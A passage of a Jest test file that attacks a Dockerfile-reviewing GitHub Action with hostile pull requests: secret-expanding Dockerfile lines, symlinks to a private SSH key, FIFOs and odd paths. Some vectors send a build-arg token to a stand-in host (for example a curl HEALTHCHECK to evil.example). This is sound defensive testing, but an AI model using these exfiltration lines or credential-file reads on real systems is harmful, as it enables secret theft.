/**
 * The bundled action against hostile pull requests and careless set-ups (issue 16), each test
 * written as the attack: `node dist/index.js` with INPUT_*, GITHUB_* and an event payload file,
 * against the fake GitHub API (and a recording "registry" on 127.0.0.1). Every attack input is
 * counted in ATTACKS, by category, so the closing note can say how many run.
 */
import { afterAll, afterEach, describe, expect, it } from '@jest/globals'
import { execFileSync } from 'node:child_process'
import { existsSync, lstatSync, mkdirSync, readFileSync, readlinkSync, symlinkSync, writeFileSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { PR_PAYLOAD, output, runAction, type RunResult } from '../helpers/action.js'
import { df } from '../helpers/dockerfile.js'
import { startFakeGitHub, type FakeGitHub } from '../helpers/fake-github.js'
import { tempTree, type TempTree } from '../helpers/tmp.js'

let server: FakeGitHub | null = null
let tree: TempTree | null = null
afterEach(async () => {
  await server?.close()
  tree?.remove()
  server = null
  tree = null
})

/** Attack inputs the tests below run, by category (printed once at the end). */
const ATTACKS: Record<string, string[]> = {}
function attack(category: string, ...inputs: string[]): void {
  ATTACKS[category] = [...(ATTACKS[category] ?? []), ...inputs]
}
afterAll(() => {
  const lines = Object.entries(ATTACKS).map(([category, inputs]) => `${category}: ${inputs.length}`)
  process.stdout.write(`attack inputs by category (${Object.values(ATTACKS).reduce((n, l) => n + l.length, 0)} in all)\n${lines.join('\n')}\n`)
})

/** Everything the run published or wrote: where a leaked secret would show. */
function published(fake: FakeGitHub, result: RunResult, files: string[] = []): string {
  return [JSON.stringify(fake.requests.map((r) => r.body)), result.stdout, result.outputs, result.summary, ...files.filter((f) => existsSync(f)).map((f) => readFileSync(f, 'utf8'))].join('\n')
}

const git = (ws: string, ...args: string[]): string =>
  execFileSync('git', ['-C', ws, ...args], { encoding: 'utf8', env: { ...process.env, GIT_AUTHOR_NAME: 't', GIT_AUTHOR_EMAIL: 't@t', GIT_COMMITTER_NAME: 't', GIT_COMMITTER_EMAIL: 't@t' } }).trim()

/** Commits the workspace as it is (links as links) and returns the head SHA: the PR checked out at its head. */
function commitWorkspace(ws: string): string {
  git(ws, 'init', '-q')
  git(ws, 'add', '-A')
  git(ws, 'commit', '-qm', 'head')
  return git(ws, 'rev-parse', 'HEAD')
}

const payloadAt = (head: string): object => ({ pull_request: { number: 7, head: { sha: head }, base: { sha: 'basesha' } } })

/** A "registry" that answers 404 to everything and records what it was asked. */
async function recordingRegistry(): Promise<{ host: string; paths: string[]; close(): Promise<void> }> {
  const paths: string[] = []
  const http: Server = createServer((req, res) => {
    paths.push(`${req.method ?? ''} ${req.url ?? ''} ${req.headers.authorization ?? ''}`)
    res.writeHead(404, { 'content-type': 'application/json' })
    res.end('{"errors":[{"code":"MANIFEST_UNKNOWN"}]}')
  })
  await new Promise<void>((resolve) => http.listen(0, '127.0.0.1', resolve))
  return { host: `127.0.0.1:${(http.address() as AddressInfo).port}`, paths, close: () => new Promise((resolve) => http.close(() => resolve())) }
}

const SECRET = 'npm_S3cr3tT0kenValue9431'

/** The fake API with a PR that adds one Dockerfile (read through the contents API), and an empty workspace. */
async function addedDockerfile(text: string | null, options: Parameters<typeof startFakeGitHub>[0] = {}): Promise<[FakeGitHub, TempTree]> {
  const fake = await startFakeGitHub(options)
  fake.files.push({ filename: 'Dockerfile', status: 'added' })
  if (text !== null) fake.contents.set('headsha:Dockerfile', text)
  return [fake, tempTree({ 'ws/.keep': '' })]
}

describe('1. build-args are withheld: a secret passed as a build arg is never published nor sent', () => {
  it('a PR that expands the secret into FROM (on a registry it picks), an alias, COPY, ADD, WORKDIR, USER, EXPOSE, LABEL, ENV and RUN leaks it nowhere', async () => {
    const registry = await recordingRegistry()
    try {
      server = await startFakeGitHub()
      tree = tempTree({ 'ws/.keep': '' })
      const vectors = [
        'ARG NPM_TOKEN',
        'ARG ALIAS=${NPM_TOKEN}',
        'ARG CUT=${NPM_TOKEN:0:8}',
        `FROM ${registry.host}/leak/img:\${ALIAS} AS first`,
        'FROM ${NPM_TOKEN} AS second',
        `FROM ${registry.host}/\${NPM_TOKEN}:latest AS third`,
        'FROM alpine:3.20',
        'ARG NPM_TOKEN',
        'ARG ALIAS',
        'COPY ${NPM_TOKEN}/x /x',
        'ADD https://evil.example/${ALIAS} /y',
        'WORKDIR /${NPM_TOKEN}',
        'USER ${NPM_TOKEN}',
        'EXPOSE ${NPM_TOKEN}',
        'LABEL leak=${ALIAS}',
        'ENV LEAK=${NPM_TOKEN}x',
        'RUN echo ${ALIAS} $NPM_TOKEN',
        'COPY --from=${NPM_TOKEN} /a /b',
        'ARG QUOTED="${NPM_TOKEN}"',
        'ARG DEFAULTED=${NPM_TOKEN:-none}',
        'ARG REPLACED=${NPM_TOKEN/npm/x}',
        'ARG PREFIXED=${NPM_TOKEN#npm_}',
        'COPY --chown=${NPM_TOKEN}:${NPM_TOKEN} a /a',
        'ADD --checksum=sha256:${NPM_TOKEN} https://evil.example/f /f',
        'RUN --mount=type=secret,id=${NPM_TOKEN} echo hi',
        'VOLUME /${ALIAS}',
        'STOPSIGNAL ${NPM_TOKEN}',
        'HEALTHCHECK CMD curl -f https://${NPM_TOKEN}@evil.example/',
        'ONBUILD RUN echo ${NPM_TOKEN}',
        'ENV PATH=/${QUOTED}:$PATH',
        'COPY ${DEFAULTED} ${REPLACED} ${PREFIXED} /z/',
        'CMD ["${NPM_TOKEN}"]',
        '${NPM_TOKEN} unknown instruction'
      ]
      attack('1 build-args taint', ...vectors.filter((v) => v.includes('$')), 'a build-args line without = that holds the secret')
      server.files.push({ filename: 'Dockerfile', status: 'added' })
      server.contents.set('headsha:Dockerfile', df(...vectors))
      const reports = [join(tree.dir, 'ws/out/s.sarif'), join(tree.dir, 'ws/out/s.json')]
      const result = await runAction(server, tree.dir, 'pull_request', {
        'build-args': `NPM_TOKEN=${SECRET}\nALIAS=${SECRET}`,
        'registry-lookup': 'true',
        // The base-facts helper's allow-list for local registries (ignored where it does not exist).
        'registry-allow': '127.0.0.1',
        comment: 'always',
        'fail-on': 'never',
        'sarif-file': 'out/s.sarif',
        'json-file': 'out/s.json'
      })
      expect(result.code).toBe(0)
      const everything = published(server, result, reports)
      expect(everything).not.toContain(SECRET)
      expect(everything).not.toContain(SECRET.slice(0, 8))
      expect(registry.paths.filter((p) => p.includes(SECRET) || p.includes(SECRET.slice(0, 8)))).toEqual([])
      // Nothing about the withheld value went to the registry the PR named: not even the image with `${ALIAS}` in it.
      expect(registry.paths).toEqual([])
      // Shown as written: the reference, not the value.
      const comment = server.comments[0]?.body ?? ''
      expect(comment).toContain('${ALIAS}')
      expect(comment).toMatch(/\$\{NPM\\?_TOKEN\}/)
      // A withheld value is set, only not known: no advice to fix a default.
      expect(comment).not.toContain('invalid-default-arg-in-from')
      // Every report shows the reference: the JSON and SARIF reports, the check run and the job summary.
      for (const report of reports) expect(readFileSync(report, 'utf8')).toContain('COPY --from=${NPM_TOKEN}')
      expect(JSON.stringify(server.checkRuns[0]?.body)).toContain('COPY --from=${NPM_TOKEN}')
      // The job summary escapes Markdown (`\$` so that no math is typeset): GitHub shows ${NPM_TOKEN}.
      expect(result.summary).toMatch(/COPY --from=\\?\$\{NPM\\?_TOKEN\}/)
    } finally {
      await registry.close()
    }
  })

  it('a malformed build-args line is named by number, never echoed', async () => {
    server = await startFakeGitHub()
    tree = tempTree({ 'ws/.keep': '' })
    const result = await runAction(server, tree.dir, 'pull_request', { 'build-args': `GOOD=1\nNPM_TOKEN ${SECRET}` })
    expect(result.code).toBe(1)
    expect(result.stdout).toContain('::error::input build-args: line 2 is not NAME=value')
    expect(result.stdout).not.toContain(SECRET)
  })

  it('build-args-public opts one argument in: only it is expanded, shown and looked up', async () => {
    const registry = await recordingRegistry()
    try {
      server = await startFakeGitHub()
      tree = tempTree({ 'ws/.keep': '' })
      server.files.push({ filename: 'Dockerfile', status: 'added' })
      // CHANNEL does not look like a secret by its name (the old guard judged names): it is withheld all the same.
      server.contents.set('headsha:Dockerfile', df('ARG TAG', 'ARG CHANNEL', `FROM ${registry.host}/base/img:\${TAG} AS build`, `FROM ${registry.host}/base/other:\${CHANNEL}`, 'USER app'))
      const result = await runAction(server, tree.dir, 'pull_request', { 'build-args': `TAG=1.2.3\nCHANNEL=${SECRET}`, 'build-args-public': 'TAG', 'registry-lookup': 'true', 'registry-allow': '127.0.0.1', comment: 'always', 'fail-on': 'never' })
      expect(result.code).toBe(0)
      expect(registry.paths.some((p) => p.startsWith('GET /v2/base/img/manifests/1.2.3'))).toBe(true)
      expect(registry.paths.some((p) => p.includes('/base/other/'))).toBe(false)
      expect(server.comments[0]?.body).toContain(`${registry.host}/base/img:1.2.3`)
      expect(published(server, result)).not.toContain(SECRET)
    } finally {
      await registry.close()
    }
  })
})

describe('2. links and special files in the workspace: read only regular files inside it, never block, write reports without following links', () => {
  const KEY = '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ\nKEYMATERIAL_42\n-----END OPENSSH PRIVATE KEY-----\n'

  it('Dockerfiles that are links out of the workspace (a private key, /dev/zero) or out through a linked folder are not read, nothing of them is published, and the check fails', async () => {
    server = await startFakeGitHub()
    tree = tempTree({ 'home/.ssh/id_rsa': KEY, 'ws/ok/Dockerfile': 'FROM alpine:3.20\nUSER app\n' })
    const ws = join(tree.dir, 'ws')
    symlinkSync(join(tree.dir, 'home/.ssh/id_rsa'), join(ws, 'Dockerfile'))
    mkdirSync(join(ws, 'zero'))
    symlinkSync('/dev/zero', join(ws, 'zero/Dockerfile'))
    symlinkSync(join(tree.dir, 'home/.ssh'), join(ws, 'ssh'))
    // A link that stays inside the workspace is an ordinary file.
    symlinkSync('../ok/Dockerfile', join(ws, 'ok/Containerfile'))
    attack('2 links and special files', 'Dockerfile -> ~/.ssh/id_rsa', 'zero/Dockerfile -> /dev/zero', 'ssh -> ~/.ssh (ssh/id_rsa.Dockerfile through a linked folder)')
    const head = commitWorkspace(ws)
    server.files.push({ filename: 'Dockerfile', status: 'added' }, { filename: 'zero/Dockerfile', status: 'added' }, { filename: 'ssh/id_rsa', status: 'added' }, { filename: 'ok/Dockerfile', status: 'added' }, { filename: 'ok/Containerfile', status: 'added' })
    const result = await runAction(server, tree.dir, 'pull_request', { dockerfiles: '**/Dockerfile\n**/Containerfile\nssh/*', comment: 'always' }, payloadAt(head), {}, 30_000)
    expect(result.killed).toBe(false)
    expect(published(server, result)).not.toContain('KEYMATERIAL_42')
    expect(published(server, result)).not.toContain('OPENSSH')
    const summary = result.summary.replace(/\\/g, '')
    expect(summary).toContain('> Dockerfile could not be read (a link to a file outside the workspace, not read)')
    expect(summary).toContain('zero/Dockerfile could not be read (a link to a file outside the workspace, not read)')
    expect(summary).toContain('ssh/id_rsa could not be read (a link to a file outside the workspace, not read)')
    expect(output(result.outputs, 'dockerfiles')).toBe('2')
    expect(output(result.outputs, 'conclusion')).toBe('failure')
    expect(result.code).toBe(1)
  })

  it('a FIFO as a Dockerfile, as .dockerignore, as the configuration and as a workflow file never blocks the step', async () => {
    server = await startFakeGitHub()
    tree = tempTree({ 'ws/app/Dockerfile': 'FROM alpine:3.20\nCOPY . /src\nUSER app\n', 'ws/.github/workflows/.keep': '' })
    const ws = join(tree.dir, 'ws')
    execFileSync('mkfifo', [join(ws, 'Dockerfile'), join(ws, 'app/.dockerignore'), join(ws, 'app/Dockerfile.dockerignore'), join(ws, '.github/workflows/build.yml')])
    attack('2 links and special files', 'Dockerfile is a FIFO', 'app/.dockerignore is a FIFO', 'app/Dockerfile.dockerignore is a FIFO', '.github/workflows/build.yml is a FIFO')
    // Named explicitly, so the FIFO is taken as a file to read (a folder search lists regular files only).
    const result = await runAction(server, tree.dir, 'workflow_dispatch', { dockerfiles: 'Dockerfile\napp/Dockerfile', 'check-run': 'false', comment: 'never' }, {}, {}, 30_000)
    expect(result.killed).toBe(false)
    expect(result.summary).toContain('app/Dockerfile')
    // The FIFO Dockerfile is refused, said, and fails the check; the real one is reviewed.
    expect(result.summary).toContain('Dockerfile could not be read (not a regular file (a FIFO, a device or a folder), not read)')
    expect(output(result.outputs, 'dockerfiles')).toBe('1')
    expect(result.code).toBe(1)

    execFileSync('mkfifo', [join(ws, '.stagecraft.yml')])
    attack('2 links and special files', '.stagecraft.yml is a FIFO')
    const config = await runAction(server, tree.dir, 'workflow_dispatch', { 'check-run': 'false', comment: 'never' }, {}, {}, 30_000)
    expect(config.killed).toBe(false)
    expect(config.stdout).toContain('::error::.stagecraft.yml: not a regular file, so it was not read')
    expect(config.code).toBe(1)
  })

  it('a .dockerignore that is a link out of the workspace is not read, in the default set-up (files through the API, the workspace checked out)', async () => {
    server = await startFakeGitHub()
    const ignore = '*\n!KEYMATERIAL_ALLOWED\n'
    tree = tempTree({ 'home/secret-ignore': ignore, 'ws/real/.dockerignore': ignore, 'ws/linked/.keep': '' })
    const ws = join(tree.dir, 'ws')
    symlinkSync(join(tree.dir, 'home/secret-ignore'), join(ws, 'linked/.dockerignore'))
    attack('2 links and special files', '.dockerignore -> a file outside the workspace')
    const dockerfile = df('FROM alpine:3.20', 'COPY KEYMATERIAL_42 /k', 'USER app')
    for (const dir of ['real', 'linked']) {
      server.files.push({ filename: `${dir}/Dockerfile`, status: 'added' })
      server.contents.set(`headsha:${dir}/Dockerfile`, dockerfile)
    }
    const result = await runAction(server, tree.dir, 'pull_request', { comment: 'never', 'fail-on': 'never', 'json-file': 'r.json' })
    expect(result.killed).toBe(false)
    // The same lines read from a regular file make copy-ignored-file report the COPY; through the link, nothing is read.
    const files = (JSON.parse(readFileSync(join(ws, 'r.json'), 'utf8')) as { files: { path: string; findings: { rule: string }[] }[] }).files
    const rules = Object.fromEntries(files.map((f) => [f.path, f.findings.map((x) => x.rule)]))
    expect(rules['real/Dockerfile']).toContain('copy-ignored-file')
    expect(rules['linked/Dockerfile']).not.toContain('copy-ignored-file')
  })

  it('sarif-file and json-file are written in place of a planted link, never through it, and never through a linked folder', async () => {
    server = await startFakeGitHub()
    tree = tempTree({ 'outside/victim.txt': 'precious\n', 'outside/dir/.keep': '', 'ws/.keep': '' })
    const ws = join(tree.dir, 'ws')
    mkdirSync(join(ws, 'out'))
    symlinkSync(join(tree.dir, 'outside/victim.txt'), join(ws, 'out/s.sarif'))
    symlinkSync(join(tree.dir, 'outside/dir'), join(ws, 'linked'))
    attack('2 links and special files', 'out/s.sarif -> a file outside the workspace', 'linked -> a folder outside the workspace (json-file linked/s.json)')
    server.files.push({ filename: 'Dockerfile', status: 'added' })
    server.contents.set('headsha:Dockerfile', df('FROM alpine:3.20', 'USER app'))
    const result = await runAction(server, tree.dir, 'pull_request', { comment: 'never', 'sarif-file': 'out/s.sarif', 'json-file': 'linked/s.json' })
    expect(readFileSync(join(tree.dir, 'outside/victim.txt'), 'utf8')).toBe('precious\n')
    expect(existsSync(join(tree.dir, 'outside/dir/s.json'))).toBe(false)
    expect(lstatSync(join(ws, 'out/s.sarif')).isSymbolicLink()).toBe(false)
    expect(JSON.parse(readFileSync(join(ws, 'out/s.sarif'), 'utf8'))).toMatchObject({ version: '2.1.0' })
    expect(readlinkSync(join(ws, 'linked'))).toBe(join(tree.dir, 'outside/dir'))
    expect(result.summary).toContain('The JSON report was not written to linked/s.json: linked is a link.')
    expect([output(result.outputs, 'sarif-file'), output(result.outputs, 'json-file')]).toEqual(['out/s.sarif', ''])
  })
})

describe('5. fail closed: what could not be read or listed fails the check, and so does a change that decides an unchanged line', () => {
  const TRUSTED = 'trusted-registries: [docker.io]\n'

  it.each<[string, (fake: FakeGitHub) => void, string]>([
    ['a NUL byte in a comment line (BuildKit ignores it)', (fake) => fake.contents.set('headsha:Dockerfile', 'FROM evil.example.com/x:1\n# \u0000\nUSER app\n'), 'binary content (NUL bytes)'],
    ['a contents-API error', (fake) => fake.fault('GET /repos/o/r/contents/Dockerfile', 403, { message: 'Resource not accessible by integration' }), 'Resource not accessible by integration'],
    ['a symlink in the PR (the contents API answers type symlink)', (fake) => fake.contents.set('headsha:Dockerfile', { symlink: '/home/runner/.ssh/id_rsa' }), 'not a regular file (symlink)']
  ])('%s: the step and the check run fail, the summary says why', async (name, arrange, reason) => {
    attack('5 fail closed', name)
    ;[server, tree] = await addedDockerfile(null)
    arrange(server)
    const result = await runAction(server, tree.dir, 'pull_request', { comment: 'never' })
    expect(result.code).toBe(1)
    expect(result.summary).toContain(`Dockerfile could not be read (${reason}`)
    expect(result.summary).toContain('The check fails: what was not reviewed may be what the change is about')
    expect(server.checkRuns[0]?.body).toMatchObject({ conclusion: 'failure', output: { title: 'Not reviewed: 1 file(s) could not be read' } })
    // fail-on: never lets it pass, and still says it.
    const lenient = await runAction(server, tree.dir, 'pull_request', { comment: 'never', 'fail-on': 'never' })
    expect(lenient.code).toBe(0)
    expect(lenient.summary).toContain('Dockerfile could not be read')
  })

  it('a PR whose Dockerfiles lie beyond the 3,000 files GitHub lists fails, and says so', async () => {
    attack('5 fail closed', 'a PR of 3,500 files')
    ;[server, tree] = await addedDockerfile(df('FROM alpine:3.20', 'USER app'), { changedFiles: 3500 })
    const result = await runAction(server, tree.dir, 'pull_request', { comment: 'never' })
    expect(result.code).toBe(1)
    expect(result.summary).toContain('This pull request changes 3500 files; GitHub lists only the first 3,000, so Dockerfiles beyond them were not reviewed.')
    expect(output(result.outputs, 'conclusion')).toBe('failure')
  })

  it('a PR that changes only the ARG default a FROM uses owns the FROM (an untrusted registry fails it); an unrelated change does not', async () => {
    attack('5 fail closed', 'ARG BASE default moved to an untrusted registry', 'the same through an alias ARG', 'the same through a stage ARG that takes the global one')
    server = await startFakeGitHub()
    tree = tempTree({ 'ws/.stagecraft.yml': TRUSTED })
    const changedArg = { filename: 'Dockerfile', status: 'modified' as const, patch: '@@ -1,1 +1,1 @@\n-ARG BASE=node:20\n+ARG BASE=evil.example.com/node:20' }
    server.files.push(changedArg)
    server.contents.set('headsha:Dockerfile', df('ARG BASE=evil.example.com/node:20', 'ARG ALIAS=$BASE', 'FROM ${ALIAS} AS build', 'ARG BASE', 'RUN echo $BASE', 'FROM ${BASE}', 'USER node'))
    server.contents.set('basesha:Dockerfile', df('ARG BASE=node:20', 'ARG ALIAS=$BASE', 'FROM ${ALIAS} AS build', 'ARG BASE', 'RUN echo $BASE', 'FROM ${BASE}', 'USER node'))
    const result = await runAction(server, tree.dir, 'pull_request', { comment: 'never', 'json-file': 'r.json' })
    const annotations = (server.checkRuns[0]?.body as { output: { annotations: { start_line: number; title: string }[] } }).output.annotations
    expect(annotations.filter((a) => a.title.startsWith('untrusted-registry')).map((a) => a.start_line)).toEqual([3])
    expect(result.code).toBe(1)
    // The same files, a change on the USER line only: the old FROM is not this PR's.
    server.files[0] = { filename: 'Dockerfile', status: 'modified', patch: '@@ -7,1 +7,1 @@\n-USER root\n+USER node' }
    const unrelated = await runAction(server, tree.dir, 'pull_request', { comment: 'never' })
    const later = (server.checkRuns[1]?.body as { output: { annotations: { title: string }[] } }).output.annotations
    expect(later.filter((a) => a.title.startsWith('untrusted-registry'))).toEqual([])
    expect(unrelated.code).toBe(0)
  })

  it('allow-suppressions: false and per-rule suppressible: false stop inline ignores of policy rules; other rules keep theirs', async () => {
    attack('5 fail closed', '# stagecraft-ignore untrusted-registry under allow-suppressions: false', '# hadolint ignore=DL3026 under suppressible: false', '# stagecraft-ignore untrusted-registry under suppressible: false')
    server = await startFakeGitHub()
    tree = tempTree({ 'ws/.stagecraft.yml': `${TRUSTED}allow-suppressions: false\nrules:\n  untrusted-registry: error\n` })
    server.files.push({ filename: 'Dockerfile', status: 'added' })
    server.contents.set('headsha:Dockerfile', df('# stagecraft-ignore untrusted-registry', 'FROM evil.example.com/node:20', 'USER node'))
    const policy = await runAction(server, tree.dir, 'pull_request', { comment: 'never' })
    expect(policy.code).toBe(1)
    expect(policy.summary).toContain('allow-suppressions: false')

    writeFileSync(join(tree.dir, 'ws/.stagecraft.yml'), `${TRUSTED}rules:\n  untrusted-registry: { level: error, suppressible: false }\n`)
    server.contents.set('headsha:Dockerfile', df('# hadolint ignore=DL3026', 'FROM evil.example.com/node:20 AS a', '# stagecraft-ignore untrusted-registry', 'FROM evil.example.com/node:22', '# stagecraft-ignore root-user', 'USER root'))
    const perRule = await runAction(server, tree.dir, 'pull_request', { comment: 'never' })
    const titles = (server.checkRuns[1]?.body as { output: { annotations: { start_line: number; title: string }[] } }).output.annotations.map((a) => `${a.start_line} ${a.title}`)
    expect(titles).toEqual(expect.arrayContaining(['2 untrusted-registry (error)', '4 untrusted-registry (error)']))
    expect(titles.some((t) => t.includes('root-user'))).toBe(false)
    expect(perRule.summary).toContain('Suppression comments do not silence untrusted-registry here: the configuration sets suppressible: false.')
    expect(perRule.code).toBe(1)
    // The control: the same comments silence the rule when the configuration lets them.
    writeFileSync(join(tree.dir, 'ws/.stagecraft.yml'), `${TRUSTED}rules:\n  untrusted-registry: error\n`)
    const lenient = await runAction(server, tree.dir, 'pull_request', { comment: 'never' })
    const silenced = (server.checkRuns[2]?.body as { output: { annotations: { title: string }[] } }).output.annotations.map((a) => a.title)
    expect(silenced.some((t) => t.startsWith('untrusted-registry'))).toBe(false)
    expect(lenient.code).toBe(0)
  })
})

describe('6. check runs are never left in progress', () => {
  const findingsFile = (n: number): string => df('FROM ubuntu:24.04', ...Array.from({ length: n }, (_, i) => `ENV K${i} v`), 'USER app')

  it('when a later batch of annotations is refused, a last PATCH completes the run with its conclusion and says what is missing', async () => {
    attack('6 check runs', 'a PATCH of annotations refused (422)')
    ;[server, tree] = await addedDockerfile(findingsFile(120))
    server.fault('PATCH /repos/o/r/check-runs/*', 422, { message: 'Validation Failed' })
    const result = await runAction(server, tree.dir, 'pull_request', { comment: 'never', 'fail-on': 'info' })
    const run = server.checkRuns[0]
    expect(run?.body).toMatchObject({ status: 'in_progress' })
    const last = run?.updates.at(-1) as { status: string; conclusion: string; output: { summary: string; annotations?: unknown[] } }
    expect([last.status, last.conclusion, last.output.annotations]).toEqual(['completed', 'failure', undefined])
    expect(last.output.summary).toContain('70 of 120 annotations could not be added (Validation Failed')
    expect(result.summary).toContain('The check run was completed, but 70 of 120 annotations could not be added')
    expect(result.summary).not.toContain('could not be created')
    expect(output(result.outputs, 'check-run-url')).toBe(`https://github.com/o/r/runs/${run?.id ?? 0}`)
    expect(result.code).toBe(1)
  })

  it('1,100 findings: 1,000 annotations in 20 requests, the other 100 counted in the summaries', async () => {
    attack('6 check runs', '1,100 findings')
    ;[server, tree] = await addedDockerfile(findingsFile(1100))
    const result = await runAction(server, tree.dir, 'pull_request', { comment: 'never', 'fail-on': 'never' })
    const writes = server.requests.filter((r) => r.path.includes('/check-runs'))
    expect(writes).toHaveLength(20)
    expect(writes.reduce((n, r) => n + (r.body as { output: { annotations: unknown[] } }).output.annotations.length, 0)).toBe(1000)
    expect((writes.at(-1)?.body as { status: string }).status).toBe('completed')
    expect((writes[0]?.body as { output: { summary: string } }).output.summary).toContain('100 more finding(s) are not shown as annotations')
    expect(result.summary).toContain('100 more finding(s) are not annotations on the check run (at most 1000)')
  })

  it.each([
    ['30,000 CJK characters (3 bytes each, 90 KB)', '漢', 30_000],
    ['20,000 emoji (4 bytes and two UTF-16 units each, 80 KB)', '😀', 20_000],
    ['40,000 accented letters (2 bytes each, 80 KB)', 'é', 40_000]
  ])('a finding message of %s is clipped by UTF-8 bytes, so the run is not refused', async (name, char, count) => {
    attack('6 check runs', `${name} in one finding message`)
    ;[server, tree] = await addedDockerfile(df(`FROM alpine:3.20 AS a b ${char.repeat(count)}`, 'USER app'))
    const result = await runAction(server, tree.dir, 'pull_request', { comment: 'never', 'fail-on': 'never' })
    const annotations = (server.checkRuns[0]?.body as { output: { annotations: { message: string; title: string }[] } }).output.annotations
    const long = annotations.find((a) => a.message.includes(char))
    expect(Buffer.byteLength(long?.message ?? '', 'utf8')).toBeLessThanOrEqual(64_000)
    expect(long?.message).toMatch(new RegExp(`${char}…\\nhttps://\\S+/docs/rules/parse-error\\.md$`, 'u'))
    expect(output(result.outputs, 'check-run-url')).not.toBe('')
  })
})

describe('7. no duplicates, no endless waits, and every fault ends with a summary', () => {
  it.each<[string, 'comment' | 'check run', 'after' | 'hang', number]>([
    ['a comment POST that GitHub made but answered 502 is found by listing the thread again, not posted twice', 'comment', 'after', 1],
    ['a check-run POST that GitHub made but answered 502 is found by its external_id, not created twice', 'check run', 'after', 1],
    ['a comment POST that never answers times out, is looked for, and is posted once', 'comment', 'hang', 2],
    ['a check-run POST that never answers times out, is looked for, and is created once', 'check run', 'hang', 2]
  ])('%s', async (name, what, how, posts) => {
    attack('7 duplicates and waits', name)
    ;[server, tree] = await addedDockerfile(df('FROM alpine:3.20', 'USER app'))
    const route = what === 'comment' ? 'POST /repos/o/r/issues/7/comments' : 'POST /repos/o/r/check-runs'
    if (how === 'after') server.faultAfter(route, 502)
    else server.hang(route)
    const result = await runAction(server, tree.dir, 'pull_request', { comment: what === 'comment' ? 'always' : 'never' }, PR_PAYLOAD, { STAGECRAFT_GITHUB_TIMEOUT_MS: '1000' }, 30_000)
    expect(result.killed).toBe(false)
    expect(server.requests.filter((r) => `${r.method} ${r.path}` === route)).toHaveLength(posts)
    if (what === 'comment') {
      expect(server.comments).toHaveLength(1)
      expect(output(result.outputs, 'comment-url')).toBe(server.comments[0]?.html_url)
    } else {
      expect(server.checkRuns).toHaveLength(1)
      expect(server.requests.map((r) => `${r.method} ${r.path}`)).toContain('GET /repos/o/r/commits/headsha/check-runs')
      expect(output(result.outputs, 'check-run-url')).toBe(`https://github.com/o/r/runs/${server.checkRuns[0]?.id ?? 0}`)
    }
    expect(result.code).toBe(0)
  })

  it('listing the comments never answers: the comment degrades like any fault, said in the summary, and the step goes on', async () => {
    attack('7 duplicates and waits', 'GET comments never answers')
    ;[server, tree] = await addedDockerfile(df('FROM alpine:3.20', 'USER app'))
    server.hang('GET /repos/o/r/issues/7/comments')
    const result = await runAction(server, tree.dir, 'pull_request', { comment: 'always' }, PR_PAYLOAD, { STAGECRAFT_GITHUB_TIMEOUT_MS: '1000' }, 30_000)
    expect(result.killed).toBe(false)
    expect(result.ms).toBeLessThan(20_000)
    expect(result.summary).toContain('The pull request comment could not be written: the API failed: GitHub did not answer within 1 s.')
    expect(server.checkRuns).toHaveLength(1)
    expect(result.code).toBe(0)
  })

  it.each<[string, (fake: FakeGitHub) => void, string]>([
    ['the file listing never answers', (fake) => fake.hang('GET /repos/o/r/pulls/7/files'), 'GitHub did not answer within 1 s'],
    ['pulls.get is refused', (fake) => fake.fault('GET /repos/o/r/pulls/7', 404, { message: 'Not Found' }), 'the API answered 404: Not Found'],
    ['the file listing is refused', (fake) => fake.fault('GET /repos/o/r/pulls/7/files', 403, { message: 'Resource not accessible by integration' }), 'the API answered 403: Resource not accessible by integration']
  ])('%s: the step ends with a summary that says so, no stack trace, and fails', async (name, arrange, reason) => {
    attack('7 duplicates and waits', name)
    ;[server, tree] = await addedDockerfile(null)
    arrange(server)
    const result = await runAction(server, tree.dir, 'pull_request', { comment: 'never' }, PR_PAYLOAD, { STAGECRAFT_GITHUB_TIMEOUT_MS: '1000' }, 30_000)
    expect(result.killed).toBe(false)
    expect(result.ms).toBeLessThan(20_000)
    expect(result.summary).toContain(`The pull request's files could not be listed (${reason}`)
    expect(result.stdout).not.toMatch(/\n\s+at /)
    expect(result.code).toBe(1)
  })
})

describe('8. large and odd inputs', () => {
  it('a Dockerfile over 1 MB through the API (encoding: none) is said to be too large, not reviewed as empty, and fails', async () => {
    attack('8 large and odd inputs', 'a 1.5 MB Dockerfile through the contents API')
    ;[server, tree] = await addedDockerfile(df('FROM evil.example.com/x:1', ...Array.from({ length: 50_000 }, (_, i) => `# padding ${i} ..............`)))
    const result = await runAction(server, tree.dir, 'pull_request', { comment: 'never' })
    expect(result.summary).toMatch(/Dockerfile could not be read \(too large to review \(\d+ bytes; the limit is 1048576 bytes\)\)/)
    expect(output(result.outputs, 'dockerfiles')).toBe('0')
    expect(result.code).toBe(1)
  })

  it.each([
    ['a newline', 'evil\n/Dockerfile'],
    ['U+2028', 'svc\u2028/Dockerfile'],
    ['U+2029', 'Dockerfile\u2029'],
    ['a carriage return', 'deploy\r/Dockerfile']
  ])('a changed Dockerfile with %s in its path is said, not skipped silently, and fails', async (name, path) => {
    attack('8 large and odd inputs', `a path with ${name}`)
    server = await startFakeGitHub()
    tree = tempTree({ 'ws/.keep': '' })
    server.files.push({ filename: path, status: 'added' }, { filename: 'ok/Dockerfile', status: 'added' })
    server.contents.set('headsha:ok/Dockerfile', df('FROM alpine:3.20', 'USER app'))
    const result = await runAction(server, tree.dir, 'pull_request', { comment: 'never' })
    expect(result.summary).toContain('A changed Dockerfile has a line break in its path (')
    expect(output(result.outputs, 'dockerfiles')).toBe('1')
    expect(result.code).toBe(1)
  })

  it('a 25 MB single token in the workspace is refused before it is read; a 1 MB one is reviewed and rendered', async () => {
    attack('8 large and odd inputs', 'a 25 MB single-token Dockerfile in the workspace', 'a 1 MB single token in a FROM')
    server = await startFakeGitHub()
    tree = tempTree({ 'ws/big/Dockerfile': `FROM ${'a'.repeat(25 * 1024 * 1024)}\n`, 'ws/token/Dockerfile': `FROM alpine:3.20 AS ${'b'.repeat(1_000_000)}\nUSER app\n` })
    const result = await runAction(server, tree.dir, 'workflow_dispatch', { 'check-run': 'false', comment: 'never', 'fail-on': 'never', 'json-file': 'r.json' }, {}, {}, 60_000)
    expect(result.killed).toBe(false)
    expect(result.summary).toContain('big/Dockerfile could not be read (too large to review (26214406 bytes; the limit is 1048576 bytes))')
    expect(output(result.outputs, 'dockerfiles')).toBe('1')
    expect(result.summary.length).toBeLessThan(1_100_000)
    expect(result.code).toBe(0)
